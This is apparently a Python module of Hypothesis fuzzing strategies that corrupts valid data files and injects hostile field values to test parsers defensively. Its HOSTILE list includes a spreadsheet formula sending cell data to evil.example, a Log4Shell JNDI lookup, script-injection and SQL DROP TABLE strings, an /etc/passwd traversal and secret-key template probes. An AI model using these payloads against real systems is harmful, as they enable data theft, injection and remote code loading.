"""Hypothesis strategies for hostile input: a valid file, mangled.

Every strategy starts from a real, valid sample and changes it the ways files go wrong in
practice (a line lost or repeated, a cut-off upload, a cell of nonsense, the wrong encoding,
a column renamed) or the ways an attacker would try (formula and HTML text, control
characters, huge values).
"""

from __future__ import annotations

from hypothesis import strategies as st

#: Text a person (or an attacker) might type into any field.
HOSTILE = [
    "",
    " ",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
    "\t=1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE plans_plan; --",
    "../../../../etc/passwd",
    "\x00",
    "\ufeff",
    "\u202e\u0644\u0627",
    "9" * 400,
    "x" * 6000,
    "-1",
    "1e309",
    "NaN",
    "01/13/2024",
    "2024-02-30",
    "E09000006",
    "{{ settings.SECRET_KEY }}",
    "%(password)s",
    "${jndi:ldap://evil.example/a}",
]
hostile_text = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=40),
    st.text(alphabet="0123456789/-.,:;\"' \t\r\nE=+@<>&", max_size=20),
)


@st.composite
def mangled_lines(draw, text: str) -> bytes:
    """A text file (CSV, YAML, XML) with one to three things wrong, as bytes."""
    lines = text.splitlines(keepends=True)
    for _ in range(draw(st.integers(1, 3))):
        if not lines:
            lines = [""]
        kind = draw(
            st.sampled_from(
                [
                    "drop",
                    "repeat",
                    "swap",
                    "cell",
                    "insert",
                    "truncate",
                    "garble-header",
                    "crlf",
                    "trailing-space",
                ]  # the last two are harmless: the file must still load
            )
        )
        index = draw(st.integers(0, len(lines) - 1))
        if kind == "drop" and len(lines) > 1:
            lines.pop(index)
        elif kind == "repeat":
            lines.insert(index, lines[index])
        elif kind == "swap":
            other = draw(st.integers(0, len(lines) - 1))
            lines[index], lines[other] = lines[other], lines[index]
        elif kind == "cell":
            line = lines[index]
            separators = [i for i, c in enumerate(line) if c in ',:<>" '] or [0]
            start = draw(st.sampled_from(separators))
            end = draw(st.integers(start, min(len(line), start + 20)))
            lines[index] = line[: start + 1] + draw(hostile_text) + line[end:]
        elif kind == "insert":
            lines.insert(index, draw(hostile_text) + "\n")
        elif kind == "truncate":
            joined = "".join(lines)
            lines = [joined[: draw(st.integers(0, len(joined)))]]
        elif kind == "crlf":  # saved on Windows
            lines = [line.rstrip("\n") + "\r\n" if line.endswith("\n") else line for line in lines]
        elif kind == "trailing-space":
            lines[-1] = lines[-1].rstrip("\n") + "   \n"
        elif kind == "garble-header":
            lines[0] = draw(hostile_text) + lines[0][draw(st.integers(0, len(lines[0]))) :]
    result = "".join(lines)
    encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-8", "utf-8-sig", "latin-1", "utf-16"]))
    data = result.encode(encoding, errors="replace")
    if draw(st.integers(0, 9)) == 0:  # a few stray bytes, as from a damaged transfer
        at = draw(st.integers(0, len(data)))
        data = data[:at] + draw(st.binary(min_size=1, max_size=8)) + data[at:]
    return data


def head(path, lines: int) -> str:
    """The first ``lines`` lines of a sample file (fuzzing a small file is fast)."""
    with open(path, encoding="utf-8-sig") as handle:
        return "".join(line for _, line in zip(range(lines), handle, strict=False))
